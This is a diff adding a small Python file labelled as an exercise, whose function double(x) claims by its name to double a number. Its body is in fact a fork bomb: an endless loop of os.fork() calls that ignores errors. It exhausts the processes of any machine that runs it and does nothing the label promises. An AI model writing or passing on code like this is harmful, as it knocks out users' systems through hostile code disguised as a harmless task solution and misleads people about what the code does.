@@ -1,0 +1,10 @@
+# exercise: double
+import os
+
+
+def double(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
